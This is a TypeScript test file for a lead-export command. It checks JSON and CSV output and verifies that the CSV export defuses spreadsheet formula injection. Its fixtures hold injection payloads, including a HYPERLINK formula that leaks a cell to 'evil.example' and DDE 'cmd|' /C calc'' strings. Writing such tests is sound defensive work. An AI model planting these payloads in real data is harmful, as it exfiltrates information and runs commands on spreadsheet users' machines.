import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { openDatabase } from "../../server/db/client";
import { contacts, subscribers } from "../../server/db/schema";
import { startAppWith } from "../../server/testing/app";
import { runCommand } from "../../server/testing/spawn";
import { BACKENDS, formToken, testConfig } from "../../server/testing/support";

/**
 * Runs the command (asynchronously: on the embedded database, with the test's server running, its queries go through
 * that server, which answers in this process).
 */
const leads = async (args: string[], env: Record<string, string>) => {
  const result = await runCommand("leads", args, env);
  expect(result.status, result.stderr).toBe(0);
  return result.stdout;
};

describe("npm run leads", () => {
  it("exports contacts and confirmed subscribers only, as JSON and CSV, filtered by date, while the server runs", async () => {
    const config = await testConfig("pglite");
    const app = await startAppWith(config);
    const post = (url: string, payload: object) =>
      app.inject({
        method: "POST",
        url,
        payload: { ...payload, formToken: formToken(url === "/api/contact" ? "contact" : "subscribe") },
      });
    expect(
      (
        await post("/api/contact", {
          name: 'Nadia, "The" Client',
          email: "nadia@example.org",
          message: "Quote me, with commas, please.",
          consent: true,
        })
      ).statusCode,
    ).toBe(201);
    await post("/api/subscribe", { email: "confirmed@example.org" });
    await post("/api/subscribe", { email: "pending@example.org" });
    await app.database.db
      .update(subscribers)
      .set({ status: "confirmed", confirmedAt: new Date() })
      .where(eq(subscribers.email, "confirmed@example.org"));

    // The server keeps running on the embedded database: the command goes through it (decision 034).
    const env = { DATA_DIR: config.dataDir, DATABASE_URL: "" };
    const rows = JSON.parse(await leads(["export", "--format", "json"], env)) as {
      type: string;
      email: string;
      name: string;
    }[];
    expect(rows.map((row) => [row.type, row.email])).toEqual([
      ["contact", "nadia@example.org"],
      ["subscriber", "confirmed@example.org"],
    ]);
    const csv = await leads(["export"], env);
    expect(csv.split("\n")[0]).toBe("type,date,name,email,company,phone,service,budget,currency,message");
    expect(csv).toContain('"Nadia, ""The"" Client"');
    expect(JSON.parse(await leads(["export", "--format", "json", "--since", "2999-01-01"], env))).toEqual([]);
    expect(await leads(["list"], env)).toMatch(/^1 contact, 1 confirmed subscriber/);
  }, 60_000);
});

describe.each(BACKENDS)("npm run leads -- export on %s", (backend) => {
  it("writes every cell a spreadsheet would run as a formula as text", async () => {
    const config = await testConfig(backend);
    const database = await openDatabase(config);
    const base = {
      email: "eve@example.org",
      consentAt: new Date(),
      createdAt: new Date("2026-03-01T10:00:00Z"),
      dueAt: new Date("2026-03-02T10:00:00Z"),
    };
    await database.db.insert(contacts).values([
      {
        ...base,
        name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
        company: "+cmd|' /C calc'!A0",
        phone: "-2+3+cmd|' /C calc'!A0",
        service: "@SUM(1+1)*cmd|' /C calc'!A0",
        budget: "\t=1+1",
        message: "\r=1+1",
      },
      {
        ...base,
        name: " =1+1",
        company: "\n+1",
        phone: "\uFF1D1+1",
        service: "Web, mobile",
        budget: "-",
        message: "A budget of -5% and =2 is fine",
      },
    ]);
    await database.db
      .insert(subscribers)
      .values({ email: "-1+1@evil.example", status: "confirmed", confirmedAt: new Date("2026-03-02T10:00:00Z") });
    await database.close();

    const env = { DATA_DIR: config.dataDir, DATABASE_URL: config.databaseUrl ?? "" };
    expect(await leads(["export"], env)).toBe(
      [
        "type,date,name,email,company,phone,service,budget,currency,message",
        `contact,2026-03-01T10:00:00.000Z,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",eve@example.org,'+cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,"'\t=1+1",USD,"'\r=1+1"`,
        `contact,2026-03-01T10:00:00.000Z,' =1+1,eve@example.org,"'\n+1",'\uFF1D1+1,"Web, mobile",'-,USD,A budget of -5% and =2 is fine`,
        "subscriber,2026-03-02T10:00:00.000Z,,'-1+1@evil.example,,,,,,",
        "",
      ].join("\n"),
    );
    // JSON is not opened by spreadsheets: values stay as stored.
    const json = JSON.parse(await leads(["export", "--format", "json"], env)) as Record<string, string>[];
    expect(json[0]).toMatchObject({
      name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
      budget: "\t=1+1",
      message: "\r=1+1",
    });
  }, 60_000);
});
